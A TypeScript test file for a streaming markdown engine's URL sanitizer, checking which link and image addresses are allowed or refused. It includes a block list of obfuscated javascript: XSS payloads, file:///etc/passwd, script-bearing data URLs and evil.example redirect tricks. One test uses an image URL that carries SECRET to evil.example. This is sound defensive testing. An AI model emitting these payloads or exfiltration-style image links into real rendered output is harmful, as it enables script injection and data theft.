// @vitest-environment node
import { describe, expect, it } from "vitest";
import { type Block, createMarkdownEngine, safeUrl } from "../../src/markdown/index.js";

const PIXEL = "data:image/png;base64,iVBORw0KGgo=";

describe("a URL in the text", () => {
  it.each([
    "https://example.com/a?b=c&d=e#f",
    "HTTP://EXAMPLE.com",
    "mailto:a@example.com",
    "/path",
    "./path/to:file",
    "../up",
    "#part",
    "?a=1&b=2",
    "file.html",
    "a&b/c",
  ])("%j is allowed in a link", (url) => {
    expect(safeUrl(url, "link")).toBe(url);
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    "java\u200bscript:alert(1)",
    "javascript&colon;alert(1)",
    "java&#115;cript:alert(1)",
    "&#x6a;avascript:alert(1)",
    "vbscript:x",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    PIXEL,
    "blob:https://example.com/x",
    "//evil.example/x",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "https:evil.example",
    "https:///evil.example",
    "intent:x",
    "",
    "  ",
  ])("%j is refused in a link", (url) => {
    expect(safeUrl(url, "link")).toBeNull();
  });

  it("may be inline data only where it is an image of a raster kind", () => {
    expect(safeUrl(PIXEL, "image")).toBe(PIXEL);
    expect(safeUrl("data:image/svg+xml;base64,PHN2Zz4=", "image")).toBeNull();
    expect(safeUrl("data:image/png,raw", "image")).toBeNull();
    expect(safeUrl("mailto:a@example.com", "image")).toBeNull();
  });

  it.each([
    "[a](javascript:alert(1))",
    "[a](JAVASCRIPT:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](data:text/html,x)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a][b]\n\n[b]: javascript:alert(1)\n",
    "<javascript:alert(1)>",
    "![a](//evil.example/p.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
  ])("leaves no address in the tree of %j, at any prefix", (text) => {
    const engine = createMarkdownEngine();
    for (const char of text) {
      engine.append(char);
      expect(addresses(engine.blocks())).toEqual([]);
    }
    engine.end();
    expect(addresses(engine.blocks())).toEqual([]);
  });

  it("gives an image's address only when it is complete", () => {
    const engine = createMarkdownEngine();
    const seen = new Set<string>();
    for (const char of "![x](https://evil.example/p?q=SECRET) and [y](https://other.example/path) on.") {
      engine.append(char);
      for (const address of addresses(engine.blocks())) seen.add(address);
    }
    expect([...seen]).toEqual(["https://evil.example/p?q=SECRET", "https://other.example/path"]);
  });
});

/** Addresses that lead off the page or run something: a backslash is encoded, which leaves a path of the own host. */
function addresses(blocks: readonly Block[]): string[] {
  return [...JSON.stringify(blocks).matchAll(/"(?:href|src)":"([^"]*)"/g)]
    .map(([, address = ""]) => address)
    .filter((address) => new URL(address, "https://own.example/").origin !== "https://own.example");
}
